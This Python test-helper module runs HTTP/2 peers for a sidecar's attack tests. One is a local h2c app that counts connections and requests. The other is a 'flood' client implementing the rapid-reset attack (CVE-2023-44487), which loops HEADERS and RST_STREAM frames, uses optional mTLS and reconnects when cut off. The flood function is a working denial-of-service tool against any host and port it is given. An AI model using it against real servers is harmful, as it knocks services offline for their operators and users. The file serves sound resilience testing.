"""Real HTTP/2 peers for the attack tests, each run as a subprocess of its own so that neither
shares an interpreter (or a GIL) with the sidecar or with the legitimate client:

- `python -m tests.sidecar.h2peers app`: an h2c app that answers every request 200 (after
  `?sleep=S` seconds), prints `port N` once listening, `accept` once per connection it
  accepts and `request` once per stream, so a test counts what a sidecar sent it;
- `python -m tests.sidecar.h2peers flood HOST PORT SECONDS`: the rapid-reset attack
  (CVE-2023-44487), HEADERS then RST_STREAM in a tight loop with the h2 library on a raw
  socket (mTLS with `--cert/--key/--ca`), reconnecting whenever the server ends the
  connection, until SECONDS passed; prints one JSON line of what it saw.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import select
import socket
import ssl
import sys
import time
from typing import Any
from urllib.parse import parse_qs, urlsplit

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions


async def _app_connection(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    print("accept", flush=True)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
    conn.initiate_connection()
    writer.write(conn.data_to_send())
    answering: dict[int, asyncio.Task[None]] = {}

    async def answer(stream_id: int, delay: float) -> None:
        await asyncio.sleep(delay)
        with contextlib.suppress(h2.exceptions.ProtocolError):
            body = b"ok\n"
            conn.send_headers(stream_id, [(":status", "200"), ("content-length", "3")])
            conn.send_data(stream_id, body, end_stream=True)
            writer.write(conn.data_to_send())
        answering.pop(stream_id, None)

    try:
        while data := await reader.read(65536):
            try:
                events = conn.receive_data(data)
            except h2.exceptions.ProtocolError:
                writer.write(conn.data_to_send())
                break
            for event in events:
                if isinstance(event, h2.events.RequestReceived) and event.stream_id:
                    print("request", flush=True)
                    path = dict(event.headers or []).get(b":path", b"/").decode()
                    delay = float(parse_qs(urlsplit(path).query).get("sleep", ["0"])[0])
                    task = asyncio.get_running_loop().create_task(answer(event.stream_id, delay))
                    answering[event.stream_id] = task
                elif isinstance(event, h2.events.StreamReset) and event.stream_id:
                    found = answering.pop(event.stream_id, None)
                    if found is not None:
                        found.cancel()
                elif isinstance(event, h2.events.DataReceived) and event.stream_id:
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            writer.write(conn.data_to_send())
            await writer.drain()
    except (ConnectionError, OSError):
        pass
    finally:
        for task in answering.values():
            task.cancel()
        writer.close()


async def _app() -> None:
    server = await asyncio.start_server(_app_connection, "127.0.0.1", 0, backlog=4096)
    print(f"port {server.sockets[0].getsockname()[1]}", flush=True)
    async with server:
        await server.serve_forever()


def _tls(cert: str, key: str, ca: str) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_cert_chain(cert, key)
    context.load_verify_locations(ca)
    return context


def flood(
    host: str,
    port: int,
    seconds: float,
    *,
    authority: str = "app",
    path: str = "/?sleep=0.05",
    tls: ssl.SSLContext | None = None,
) -> dict[str, Any]:
    """HEADERS+RST_STREAM as fast as the socket takes them; reconnect when cut off."""
    seen: dict[str, Any] = {"streams": 0, "connections": 0, "goaway": {}, "cut": 0}
    headers = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            raw = socket.create_connection((host, port), timeout=5)
        except OSError:
            seen["cut"] += 1
            time.sleep(0.01)
            continue
        seen["connections"] += 1
        sock: socket.socket = tls.wrap_socket(raw) if tls is not None else raw
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.initiate_connection()
        ended = False
        try:
            sock.sendall(conn.data_to_send())
            while not ended and time.monotonic() < deadline:
                for _ in range(50):
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, headers, end_stream=True)
                    conn.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                seen["streams"] += 50
                sock.sendall(conn.data_to_send())
                readable = select.select([sock], [], [], 0)[0]
                while readable or (isinstance(sock, ssl.SSLSocket) and sock.pending()):
                    data = sock.recv(65536)
                    if not data:
                        seen["cut"] += 1
                        ended = True
                        break
                    for event in conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            name = h2.errors.ErrorCodes(event.error_code).name
                            seen["goaway"][name] = seen["goaway"].get(name, 0) + 1
                            ended = True
                    readable = select.select([sock], [], [], 0)[0]
        except (OSError, h2.exceptions.ProtocolError):
            seen["cut"] += 1
        finally:
            sock.close()
    return seen


def main() -> None:
    parser = argparse.ArgumentParser(prog="h2peers")
    commands = parser.add_subparsers(dest="command", required=True)
    commands.add_parser("app")
    attack = commands.add_parser("flood")
    attack.add_argument("host")
    attack.add_argument("port", type=int)
    attack.add_argument("seconds", type=float)
    attack.add_argument("--authority", default="app")
    attack.add_argument("--path", default="/?sleep=0.05")
    for name in ("cert", "key", "ca"):
        attack.add_argument(f"--{name}")
    args = parser.parse_args()
    if args.command == "app":
        with contextlib.suppress(KeyboardInterrupt):
            asyncio.run(_app())
        return
    tls = _tls(args.cert, args.key, args.ca) if args.cert else None
    seen = flood(args.host, args.port, args.seconds, authority=args.authority, path=args.path,
                 tls=tls)  # fmt: skip
    json.dump(seen, sys.stdout)
    print(flush=True)


if __name__ == "__main__":
    main()
